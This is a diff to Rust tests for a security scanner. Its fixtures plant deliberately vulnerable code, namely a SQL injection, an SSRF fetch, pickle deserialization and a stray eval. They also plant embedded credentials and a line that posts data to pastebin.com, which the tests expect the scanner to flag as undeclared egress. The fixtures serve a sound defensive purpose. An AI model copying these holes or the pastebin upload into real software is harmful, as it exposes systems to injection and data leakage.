@@ -66,6 +66,7 @@ fn stdout(out: &Output) -> String {
 
 fn planted() -> Dir {
     let d = Dir::new();
+    d.write("app/pure.py", "def add(a, b):\n    return a + b\n");
     d.write("app/config.py", &format!("import os\nDB = \"postgres://app:{DB_PASSWORD}@db.internal/app\"\n"));
     d.write("app/client.js", &format!("const octo = new Octokit({{ auth: \"{GH_TOKEN}\" }});\n"));
     d.write("app/settings.yaml", &format!("smtp:\n  password: \"{WEAK}\"\n"));
@@ -270,4 +271,82 @@ fn dependencies_against_an_imported_advisory_index() {
     let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
     assert_eq!(v["findings"][0]["rule_id"], "unpinned-dependency");
     assert!(String::from_utf8_lossy(&out.stderr).contains("no advisory index"));
+}
+
+/// Code patterns through the CLI: real parsers, so a call is found and a comment or string is not.
+#[test]
+fn code_patterns_in_javascript_typescript_and_python() {
+    let d = Dir::new();
+    d.write(
+        "api/routes.js",
+        "// never eval(req.body) here\nconst q = `SELECT * FROM users WHERE id = ${req.params.id}`;\n\
+         app.get('/u', (req, res) => db.query(`SELECT * FROM users WHERE id = ${req.params.id}`));\n",
+    );
+    d.write("api/proxy.ts", "export const go = (req: any) => fetch(req.query.url as string);\n");
+    d.write("jobs/load.py", "import pickle\n\ndef load(blob):\n    return pickle.loads(blob)\n");
+    d.write("node_modules/lib/index.js", "eval(x);\n");
+    let out = scan(d.path(), &["--format", "json", "--checks", "code", "--no-ignore", "."]);
+    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
+    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let got: Vec<(String, String, u64)> = v["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| {
+            (
+                f["path"].as_str().unwrap().to_owned(),
+                f["rule_id"].as_str().unwrap().to_owned(),
+                f["line"].as_u64().unwrap(),
+            )
+        })
+        .collect();
+    assert_eq!(
+        got,
+        vec![
+            ("api/proxy.ts".to_owned(), "js-ssrf".to_owned(), 1),
+            ("api/routes.js".to_owned(), "js-sql-injection".to_owned(), 3),
+            ("jobs/load.py".to_owned(), "py-insecure-deserialization".to_owned(), 4),
+        ],
+        "comments, strings and vendored code are not findings"
+    );
+    assert!(v["findings"].as_array().unwrap().iter().all(|f| f["kind"] == "code"));
+    // A custom rule file in ast-grep's format adds to the built-in rules.
+    d.write(
+        "rules.yml",
+        "id: no-console-secrets\nlanguage: JavaScript\nmessage: console.log of a secret\nseverity: warning\n\
+         rule:\n  pattern: console.log($$$A, secret)\n",
+    );
+    d.write("api/debug.js", "console.log('value', secret);\n");
+    let out = scan(d.path(), &["--format", "json", "--checks", "code", "--pattern-rules", "rules.yml", "api/debug.js"]);
+    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(v["findings"][0]["rule_id"], "no-console-secrets");
+    assert_eq!(v["findings"][0]["severity"], "medium");
+    assert_eq!(out.status.code(), Some(0), "medium warns");
+}
+
+/// Manifest checks: a direct call to a host `[egress] allow` declares is fine; to any other host
+/// it is `undeclared-egress`, which blocks.
+#[test]
+fn undeclared_egress_against_the_manifest() {
+    let d = Dir::new();
+    d.write(
+        "gatehouse.toml",
+        "[app]\nname = \"forecast\"\nruntime = \"node20\"\nentry = \"server.js\"\n\n[egress]\nallow = [\"api.open-meteo.com\", \"*.corp.example\"]\n",
+    );
+    d.write(
+        "server.js",
+        "const a = await fetch('https://api.open-meteo.com/v1/forecast');\n\
+         const b = await fetch('https://eu.corp.example/x');\n\
+         const c = await axios.post('https://pastebin.com/api', data);\n",
+    );
+    let out = scan(d.path(), &["--format", "json", "."]);
+    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
+    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let f = v["findings"].as_array().unwrap();
+    assert_eq!(f.len(), 1, "{f:?}");
+    assert_eq!(
+        (f[0]["rule_id"].as_str(), f[0]["kind"].as_str(), f[0]["line"].as_u64()),
+        (Some("undeclared-egress"), Some("manifest"), Some(3))
+    );
+    assert!(f[0]["title"].as_str().unwrap().contains("pastebin.com"));
 }
